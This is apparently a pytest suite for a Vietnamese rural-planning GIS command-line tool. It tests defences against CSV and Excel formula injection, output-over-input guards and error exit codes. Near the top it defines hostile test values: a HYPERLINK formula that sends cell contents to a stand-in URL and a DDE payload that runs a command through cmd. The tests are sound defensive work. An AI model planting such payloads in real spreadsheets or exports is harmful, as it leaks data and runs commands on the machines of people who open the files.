"""Hostile and careless input (issue 15 parts 0-2): no formula from data, no output over an input,
one guard at every command (exit 3, never a traceback), the known tracebacks as exit 2."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from workspace_builders import PLAN_CODES, grid_communes, write_workspace

from ntmgis.cli import main
from ntmgis.io import write_bytes_atomic
from ntmgis.io.plan_sheet import Schedules, write_plan_sheet
from ntmgis.io.safe_text import safe_csv_frame, safe_csv_value, set_cell

HYPERLINK = '=HYPERLINK("http://x"&A1,"y")'
DDE = "=cmd|' /C calc'!A0"


def _formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        f"{s.title}!{c.coordinate}" for s in book for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def _texts(path: Path) -> set[object]:
    book = openpyxl.load_workbook(path)
    return {c.value for s in book for row in s.iter_rows() for c in row}


def _stderr_ok(capsys: pytest.CaptureFixture[str]) -> str:
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return captured.out + captured.err


def _hostile_workspace(root: Path) -> Path:
    names = dict(PLAN_CODES)
    first, second, third = list(names)[:3]
    names[first], names[second], names[third] = HYPERLINK, DDE, "Phúc\x07Sơn"
    return write_workspace(root, communes=grid_communes(names), extra={"plan": None})


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    yaml_path = _hostile_workspace(root / "ws")
    out = root / "out" / "report.xlsx"
    assert main(["report", str(yaml_path), "-o", str(out), "-q", "--as-of", "2024"]) == 0
    return out


# 0a. No formula, ever, from data
# --------------------------------------------------------------------------------------------


def test_set_cell_keeps_formula_text_and_error_words_as_text():
    sheet = openpyxl.Workbook().active
    for n, value in enumerate([HYPERLINK, DDE, "==", "#N/A", "@SUM(A1)", -3.5], start=1):
        cell = set_cell(sheet.cell(row=n, column=1), value)
        assert cell.value == value
        assert cell.data_type == ("n" if value == -3.5 else "s")


def test_csv_rule_quotes_formula_text_not_numbers():
    for text in (HYPERLINK, DDE, "+A1", "-1+2", "@x", "\tx", "\rx", "=="):
        assert safe_csv_value(text) == "'" + text
    for value in ("-3.5", "+2", "1e5", -3.5, 7, "Ngọc Lý", "", None):
        assert safe_csv_value(value) == value
    frame = safe_csv_frame(pd.DataFrame({"=h": ["=1", "a"], "km": [-1.0, 2.0]}))
    assert list(frame.columns) == ["'=h", "km"] and frame["km"].tolist() == [-1.0, 2.0]


def test_report_from_hostile_names_has_no_formula_cell(hostile_report):
    assert _formula_cells(hostile_report) == []
    texts = _texts(hostile_report)
    assert HYPERLINK in texts and DDE in texts and "Phúc Sơn" in texts


def test_report_csv_quotes_formula_text(hostile_report):
    text = (hostile_report.parent / "report_csv" / "communes.csv").read_text(encoding="utf-8-sig")
    assert "'" + HYPERLINK.replace('"', '""') in text and "'" + DDE in text
    assert "\n=" not in text and ",=" not in text


def test_control_characters_are_replaced_and_reported(hostile_report):
    problems = (hostile_report.parent / "report_csv" / "problems.csv").read_text(encoding="utf-8-sig")
    assert "ký tự điều khiển" in problems and "đã thay bằng dấu cách" in problems  # the vi report


def test_sample_report_stores_operator_text_as_text(tmp_path):
    out = tmp_path / "r.xlsx"
    assert main(["report", "-o", str(out), "-q", "--no-csv"]) == 0
    assert _formula_cells(out) == []
    assert "==" in _texts(out)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_sample_workbook_opens_in_libreoffice_without_formula_errors(tmp_path):
    out = tmp_path / "r.xlsx"
    assert main(["report", "-o", str(out), "-q", "--no-csv"]) == 0
    # Every sheet to CSV (LibreOffice ≥ 7.2: the 12th token -1), UTF-8 (76).
    filter_ = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    env = {**os.environ, "HOME": str(tmp_path)}
    subprocess.run(
        ["soffice", "--headless", "--convert-to", filter_, "--outdir", str(tmp_path / "csv"), str(out)],
        check=True,
        capture_output=True,
        timeout=180,
        env=env,
    )
    written = list((tmp_path / "csv").glob("*.csv"))
    assert len(written) >= 5
    text = "\n".join(p.read_text(encoding="utf-8") for p in written)
    for error in ("Err:", "#NAME?", "#VALUE!", "#REF!"):
        assert error not in text
    assert "==" in text


def test_plan_sheet_writes_names_as_text(tmp_path):
    schedules = Schedules(communes=(("nang_cao", 2024, "07330", DDE),), model_villages={2024: 1})
    path = write_plan_sheet(schedules, tmp_path / "plan.xlsx")
    assert _formula_cells(path) == [] and DDE in _texts(path)


def test_validate_out_csv_quotes_formula_text(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    Path("=1+2.csv").write_text("market_id,x,y\nM1,1,2\n", encoding="utf-8")
    main(["validate", "--file", "=1+2.csv", "--as", "markets", "--crs", "EPSG:9214", "--out", "p.csv"])
    _stderr_ok(capsys)
    text = Path("p.csv").read_text(encoding="utf-8")
    assert "'=1+2.csv" in text and ",=1+2" not in text


# 0b. No output may replace an input
# --------------------------------------------------------------------------------------------


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    return write_workspace(tmp_path / "ws", tables={"commune_status": "commune_code,criterion,met,year\n"})


def _unchanged(paths: list[Path]) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in paths}


@pytest.mark.parametrize("target", ["roads.gpkg", "workspace.yaml", "sub/../communes.gpkg"])
def test_map_refuses_to_write_over_an_input(workspace, target, capsys):
    before = _unchanged(list(workspace.parent.glob("*.*")))
    out = workspace.parent / target
    assert main(["map", str(workspace), "--out", str(out), "-q"]) == 2
    message = _stderr_ok(capsys)
    assert "lại là tệp đầu vào của lệnh" in message and Path(os.path.realpath(out)).name in message
    assert _unchanged(list(before)) == before


def test_symlinked_output_to_an_input_is_refused(workspace, tmp_path, capsys):
    link = tmp_path / "link.html"
    link.symlink_to(workspace.parent / "roads.gpkg")
    assert main(["map", str(workspace), "--out", str(link), "-q"]) == 2
    assert "lại là tệp đầu vào của lệnh" in _stderr_ok(capsys)  # "is an input", in vi by default


def test_validate_out_refuses_a_table_of_the_workspace(workspace, capsys):
    table = workspace.parent / "commune_status.csv"
    before = table.read_bytes()
    assert main(["validate", str(workspace), "--out", str(table)]) == 2
    assert "lại là tệp đầu vào của lệnh" in _stderr_ok(capsys)  # "is an input", in vi by default
    assert table.read_bytes() == before


def test_report_refuses_a_csv_folder_holding_an_input(tmp_path, capsys):
    root = tmp_path / "ws"
    yaml_path = write_workspace(root)
    (root / "r_csv").mkdir()
    shutil.move(root / "roads.gpkg", root / "r_csv" / "roads.gpkg")
    config = yaml.safe_load(yaml_path.read_text(encoding="utf-8"))
    config["layers"]["roads"]["path"] = "r_csv/roads.gpkg"
    yaml_path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    assert main(["report", str(yaml_path), "--out", str(root / "r.xlsx"), "-q"]) == 2
    assert "r_csv" in _stderr_ok(capsys)
    assert not (root / "r.xlsx").exists()


def test_plan_from_sheet_refuses_its_own_sheet(workspace, tmp_path, capsys):
    sheet = tmp_path / "bieu.xlsx"
    write_plan_sheet(Schedules(communes=(), model_villages={}), sheet)
    before = sheet.read_bytes()
    args = ["plan", "from-sheet", str(sheet), "--workspace", str(workspace), "--out", str(sheet), "--force"]
    assert main(args) == 2
    assert "lại là tệp đầu vào của lệnh" in _stderr_ok(capsys)  # "is an input", in vi by default
    assert sheet.read_bytes() == before


def test_scenario_refuses_a_unit_cost_file_of_the_workspace(tmp_path, capsys):
    root = tmp_path / "ws"
    costs = "road_class,target_surface,million_vnd_per_km\nxa,be_tong,3000\n"
    (root).mkdir()
    (root / "don_gia.csv").write_text(costs, encoding="utf-8")
    yaml_path = write_workspace(root, extra={"unit_costs": {"roads": "don_gia.csv"}})
    scenario = tmp_path / "s.yaml"
    scenario.write_text("name: s\nedits: []\n", encoding="utf-8")
    out = root / "don_gia.xlsx"
    # the diff map of scenario "s" would be don_gia_s.html; the CSV folder don_gia_csv/ — neither an input,
    # so the workbook itself is made to be one
    (root / "don_gia.csv").rename(out)
    config = yaml.safe_load(yaml_path.read_text(encoding="utf-8"))
    config["unit_costs"] = {"roads": "don_gia.xlsx"}
    yaml_path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    assert main(["scenario", "run", str(scenario), str(yaml_path), "--out", str(out), "-q"]) == 2
    assert "lại là tệp đầu vào của lệnh" in _stderr_ok(capsys)  # "is an input", in vi by default


# 1. One guard at every command's entry
# --------------------------------------------------------------------------------------------


def test_a_bug_is_exit_3_with_a_short_message_not_a_traceback(monkeypatch, capsys):
    def broken(args):
        raise KeyError("boom")

    monkeypatch.setattr("ntmgis.cli._cmd_validate", broken)
    assert main(["validate", "--lang", "en"]) == 3
    message = _stderr_ok(capsys)
    assert "internal error" in message and "KeyError" in message and "--debug" in message
    with pytest.raises(KeyError):
        main(["validate", "--debug"])
    with pytest.raises(KeyError):
        main(["--debug", "validate"])


def test_help_documents_the_exit_codes(capsys):
    with pytest.raises(SystemExit):
        main(["--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "2 bad input" in out and "3 internal error" in out and "1 findings" in out


def test_write_error_names_the_target_not_the_temporary_file(tmp_path, capsys):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x", encoding="utf-8")
    target = blocker / "out.csv"
    with pytest.raises(OSError) as info:
        write_bytes_atomic(target, b"x")
    assert info.value.filename == str(target)
    Path(tmp_path / "m.csv").write_text("market_id,x,y\nM1,1,2\n", encoding="utf-8")
    args = ["validate", "--file", str(tmp_path / "m.csv"), "--as", "markets", "--crs", "EPSG:9214"]
    assert main([*args, "--out", str(target)]) == 2
    message = _stderr_ok(capsys)
    assert str(target) in message and ".tmp" not in message


# 2. The known tracebacks: exit 2 and a message
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"status_year": [2023]}, "status_year"),
        ({"status_year": "2023"}, "status_year"),
        ({"layers": [{"communes": "communes.gpkg"}]}, "communes"),
        ({"tables": ["commune_status.csv"]}, "tables"),
        ({"layers": {"communes": {"path": "communes.gpkg", "columns": ["commune_code"]}}}, "columns"),
        ({"layers": {"communes": {"path": "communes.gpkg", "columns": {"name": ["x"]}}}}, "columns"),
        ({"layers": {"communes": {"path": ["communes.gpkg"]}}}, "path"),
        ({"layers": {"communes": ["communes.gpkg"]}}, "layers.communes"),
    ],
)
def test_wrong_yaml_types_in_workspace_are_exit_2(tmp_path, change, named, capsys):
    yaml_path = write_workspace(tmp_path / "ws", extra=change)
    for command in (["validate"], ["map", "-q", "--out", str(tmp_path / "m.html")]):
        assert main([*command, str(yaml_path)]) == 2
        assert named in _stderr_ok(capsys)


def test_misspelled_entry_keys_are_warnings_with_the_closest_key(tmp_path, capsys):
    extra = {
        "layers": {
            "communes": {"path": "communes.gpkg", "crs_": "EPSG:9214", "colums": {}},
            "roads": {"path": "roads.gpkg"},
        },
        "tables": {"commune_status": {"path": "commune_status.csv", "yaer": 2023}},
    }
    yaml_path = write_workspace(
        tmp_path / "ws", extra=extra, tables={"commune_status": "commune_code,criterion,met,year\n"}
    )
    assert main(["validate", str(yaml_path), "--lang", "en"]) == 0
    message = _stderr_ok(capsys)
    for typo, meant in (("crs_", "crs"), ("colums", "columns"), ("yaer", "year")):
        assert f"unknown key {typo!r}" in message and f"did you mean {meant!r}" in message


@pytest.mark.parametrize(
    ("body", "named"),
    [
        ("scenarios: {name: a, edits: []}\n", "scenarios"),
        ("scenarios: just text\n", "scenarios"),
        ("name: a\nedits:\n  - add_market: {id: M9, x: abc, y: 1, commune: '07330'}\n", "x must be"),
        ("name: a\nedits:\n  - concretize: {segments: R001, year: 2024}\n", "segments"),
        ("name: a\nedits:\n  - concretize: {commune: '07330', year: next}\n", "year"),
        ("name: a\nedits:\n  - upgrade_market: {id: M1, year: 99999}\n", "year"),
        ("name: a\nedits:\n  - {[1, 2]: {}}\n", "YAML"),
        ("name: a\nedits:\n  - concretize: {[1]: 2}\n", "YAML"),
        ("name: a\nedits:\n  - {7: {}}\n", "unknown edit"),
        ("name: a\nedits:\n  - concretize: {7: 2}\n", "unknown fields"),
        (
            "name: a\nedits:\n  - add_zone: {id: Z, polygon: 'POINT (0 0)', crop: x, vietgap: 'yes'}\n",
            "vietgap",
        ),
        (
            "name: a\nedits:\n  - set_unit_cost: {class: xa, target: be_tong, million_vnd_per_km: -3000}\n",
            "million_vnd_per_km must be between 0",
        ),
        (
            "name: a\nedits:\n  - set_unit_cost: {class: xa, target: be_tong, million_vnd_per_km: .inf}\n",
            "million_vnd_per_km",
        ),
    ],
)
def test_bad_scenario_files_are_exit_2(tmp_path, body, named, capsys):
    path = tmp_path / "s.yaml"
    path.write_text(body, encoding="utf-8")
    assert main(["scenario", "run", str(path), "--out", str(tmp_path / "c.xlsx"), "-q", "--lang", "en"]) == 2
    assert named in _stderr_ok(capsys)
    assert not (tmp_path / "c.xlsx").exists()


@pytest.mark.parametrize("coordinates", ["inf,1", "1e400,-inf", "nan,NaN", ","])
def test_csv_layer_with_non_finite_coordinates_is_reported(tmp_path, coordinates, capsys):
    path = tmp_path / "m.csv"
    path.write_text(
        f"market_id,name,commune_code,standard_met,x,y\nM1,A,07330,true,400000,2358000\nM2,B,07330,true,{coordinates}\n",
        encoding="utf-8",
    )
    assert (
        main(["validate", "--file", str(path), "--as", "markets", "--crs", "EPSG:9214", "--lang", "en"]) == 0
    )
    message = _stderr_ok(capsys)
    assert "row 3" in message and "no geometry" in message


def test_sample_refuses_a_folder_holding_other_files(tmp_path, monkeypatch, capsys):
    files = {"workspace.yaml": b"name: generated\n", "layers/commune_status.csv": b"generated\n"}
    monkeypatch.setattr("ntmgis.sample.generate_sample", lambda seed: None)
    monkeypatch.setattr("ntmgis.sample.sample_files", lambda sample: dict(files))
    own = tmp_path / "layers" / "duong_xa.gpkg"
    own.parent.mkdir()
    own.write_bytes(b"a planner's layer")
    assert main(["sample", "-o", str(tmp_path), "--lang", "en"]) == 2
    message = _stderr_ok(capsys)
    assert "layers/duong_xa.gpkg" in message and "--force" in message
    assert not (tmp_path / "workspace.yaml").exists()
    assert main(["sample", "-o", str(tmp_path), "--force"]) == 0
    assert (tmp_path / "workspace.yaml").read_bytes() == files["workspace.yaml"]
    assert own.read_bytes() == b"a planner's layer"  # --force writes the sample's files only
